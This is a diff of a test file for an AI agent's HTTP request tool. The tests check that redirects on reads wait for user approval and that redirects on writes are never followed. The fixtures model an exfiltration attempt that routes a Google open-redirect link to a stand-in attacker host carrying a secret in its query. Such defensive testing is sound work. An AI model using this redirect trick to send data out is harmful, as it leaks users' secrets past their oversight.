@@ -2,7 +2,9 @@ import { Marked, type Token } from 'marked';
 import { describe, expect, it, vi } from 'vitest';
 import { z } from 'zod';
 import { OutcomeUnknown } from '../engine/errors.ts';
-import type { ToolContext } from '../engine/tool-definition.ts';
+import type { PauseRequest, ToolContext } from '../engine/tool-definition.ts';
+import type { PausePoint } from '../engine/records/index.ts';
+import { makePausePoint } from '../engine/testing/make-records.ts';
 import { httpGate } from './http-gate.ts';
 import { createHttpRequestTool, HttpRequestInput, type HttpRequestArgs } from './http-request.ts';
 
@@ -200,14 +202,14 @@ describe('http_request execute', () => {
     expect(init?.signal).toBeInstanceOf(AbortSignal);
   });
 
-  it('follows redirects for GET and HEAD only', async () => {
+  it('lets the browser follow no redirect on its own, for any method', async () => {
     const fetch = vi.fn<typeof globalThis.fetch>(async () => new Response(null, { status: 204 }));
     const tool = createHttpRequestTool({ fetch });
     for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE']) {
       await tool.execute(args({ method, url: 'https://example.com/a' }), contextWith());
     }
     expect(fetch.mock.calls.map(([, init]) => `${init?.method} ${init?.redirect}`)).toEqual([
-      'GET follow', 'HEAD follow', 'POST manual', 'PUT manual', 'PATCH manual', 'DELETE manual',
+      'GET manual', 'HEAD manual', 'POST manual', 'PUT manual', 'PATCH manual', 'DELETE manual',
     ]);
   });
 
@@ -219,12 +221,6 @@ describe('http_request execute', () => {
     expect(result).toContain('do not send it again without asking the user');
   });
 
-  it('says where a followed GET ended up', async () => {
-    const response = new Response('moved here', { status: 200 });
-    Object.defineProperties(response, { redirected: { value: true }, url: { value: 'https://other.example/final' } });
-    const result = await createHttpRequestTool({ fetch: async () => response }).execute(args({ method: 'GET', url: 'https://example.com/a' }), contextWith());
-    expect(result).toBe('HTTP 200\ncontent-type: text/plain;charset=UTF-8\nredirected to: https://other.example/final\n\nmoved here');
-  });
 
   it('cuts a long response at 8,000 characters and says so', async () => {
     const fetch = vi.fn<typeof globalThis.fetch>(async () => new Response('a'.repeat(12_345), { status: 200, headers: { 'content-type': 'text/plain' } }));
@@ -376,5 +372,78 @@ describe('http_request execute', () => {
     } finally {
       vi.unstubAllGlobals();
     }
+  });
+});
+
+describe('point 5: redirects of reads', () => {
+  // What fetch gives for `redirect: 'manual'`: an opaque response, status 0, no headers, no Location.
+  const opaque = () => ({ type: 'opaqueredirect', status: 0, statusText: '', headers: new Headers(), body: null, redirected: false, url: '' }) as unknown as Response;
+  /** The server redirects (seen as opaque under `manual`); followed, it ends at `https://evil.example/collect`. */
+  const redirecting = () =>
+    vi.fn<typeof globalThis.fetch>(async (_input, init) => {
+      if (init?.redirect === 'manual') return opaque();
+      const followed = new Response('got it', { status: 200 });
+      Object.defineProperties(followed, { redirected: { value: true }, url: { value: 'https://evil.example/collect?d=secret' } });
+      return followed;
+    });
+  function askingContext(answer: (request: PauseRequest) => Promise<PausePoint>, signal?: AbortSignal) {
+    const asked: PauseRequest[] = [];
+    const context: ToolContext = { ...contextWith(signal), ask: (request) => (asked.push(request), answer(request)) };
+    return { context, asked };
+  }
+  const decided = (resolution: 'approve' | 'decline') => async () => makePausePoint({ status: 'resolved', resolution });
+  const read = args({ method: 'GET', url: 'https://www.google.com/url?q=https://evil.example/collect?d%3Dsecret' });
+
+  it('a read answered with a redirect asks before anything follows it, and follows it only once approved', async () => {
+    const fetch = redirecting();
+    const { context, asked } = askingContext(async () => {
+      // Nothing has gone anywhere but the approved URL, and nothing that would follow a redirect, while the card waits.
+      expect(fetch.mock.calls.map(([url, init]) => `${String(url)} ${init?.redirect}`)).toEqual([`${read.url} manual`]);
+      return makePausePoint({ status: 'resolved', resolution: 'approve' });
+    });
+    const result = await createHttpRequestTool({ fetch }).execute(read, context);
+
+    expect(asked).toHaveLength(1);
+    expect(asked[0]).toMatchObject({ title: 'Follow the redirect from www.google.com?', kind: 'approval', options: null, payload: null });
+    expect(asked[0]?.description).toContain('**Where it points is not known:**');
+    // The request as it would be sent again, its query decoded: where Google's /url?q= says it leads is there to read.
+    expect(codeSpans(asked[0]?.description ?? '')).toEqual(expect.arrayContaining([read.url, 'https://evil.example/collect?d=secret']));
+    expect(fetch.mock.calls.map(([, init]) => init?.redirect)).toEqual(['manual', 'follow']);
+    expect(result).toBe('HTTP 200\ncontent-type: text/plain;charset=UTF-8\nredirected to: https://evil.example/collect?d=secret\n\ngot it');
+  });
+
+  it('declined, nothing more is sent, and the model is told', async () => {
+    const fetch = redirecting();
+    const result = await createHttpRequestTool({ fetch }).execute(read, askingContext(decided('decline')).context);
+    expect(fetch).toHaveBeenCalledOnce();
+    expect(result).toMatch(/^Not followed: www\.google\.com answered the GET with a redirect, and the user declined to follow it, so nothing was sent on\./);
+  });
+
+  it('a card that expires or is lost follows nothing either', async () => {
+    const fetch = redirecting();
+    const { context } = askingContext(async () => makePausePoint({ status: 'expired', expiredReason: 'timeout' }));
+    const result = await createHttpRequestTool({ fetch }).execute(args({ method: 'HEAD', url: 'https://a.example/x' }), context);
+    expect(fetch).toHaveBeenCalledOnce();
+    expect(result).toContain('the user did not decide in time');
+  });
+
+  it('a Stop while the card waits ends the read as stopped, with nothing sent on', async () => {
+    const fetch = redirecting();
+    const stop = new AbortController();
+    const { context } = askingContext(() => {
+      stop.abort(new DOMException('stopped', 'AbortError'));
+      return Promise.reject(stop.signal.reason as Error);
+    }, stop.signal);
+    await expect(createHttpRequestTool({ fetch }).execute(read, context)).rejects.toThrow('stopped');
+    expect(fetch).toHaveBeenCalledOnce();
+  });
+
+  it('a change answered with a redirect is never followed, and asks nothing', async () => {
+    const fetch = redirecting();
+    const { context, asked } = askingContext(decided('approve'));
+    const result = await createHttpRequestTool({ fetch }).execute(args({ method: 'POST', url: 'https://a.example/x', body: 'b' }), context);
+    expect(asked).toHaveLength(0);
+    expect(fetch).toHaveBeenCalledOnce();
+    expect(result).toMatch(/^The server answered with a redirect, which was not followed/);
   });
 });
